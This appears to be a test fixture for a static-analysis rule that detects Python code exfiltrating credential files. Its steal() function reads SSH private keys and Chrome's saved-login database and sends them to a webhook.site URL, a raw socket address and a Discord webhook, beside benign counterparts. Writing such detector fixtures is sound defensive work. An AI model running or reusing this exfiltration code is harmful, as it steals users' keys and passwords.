"""Fixture for py-exfil-credential-files.

RULEID: id_rsa, id_ed25519 and Chrome Login Data contents posted or sent over a socket.
OK: reading ~/.ssh/config to pick a host (not sent); posting a project file.
"""
import os
import socket
from pathlib import Path

import requests


def steal():
    key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
    # ruleid: py-exfil-credential-files
    requests.post("https://webhook.site/0000-1111", data={"k": key})
    aws = Path.home() / ".ssh" / "id_ed25519"
    creds = Path(aws).read_text()
    s = socket.create_connection(("198.51.100.9", 443))
    # ruleid: py-exfil-credential-files
    s.sendall(creds.encode())
    db = open(os.path.join(os.environ["LOCALAPPDATA"], "Google/Chrome/User Data/Default/Login Data"), "rb").read()
    # ruleid: py-exfil-credential-files
    requests.post("https://discord.com/api/webhooks/1/x", files={"f": db})


def legit():
    with open(os.path.expanduser("~/.ssh/config")) as fh:
        hosts = [l.split()[1] for l in fh if l.startswith("Host ")]
    with open("README.md") as fh:
        # ok: py-exfil-credential-files
        requests.post("https://api.example.com/docs", data=fh.read())
    # ok: py-exfil-credential-files
    requests.get("https://api.example.com/hosts", params={"n": len(hosts)})
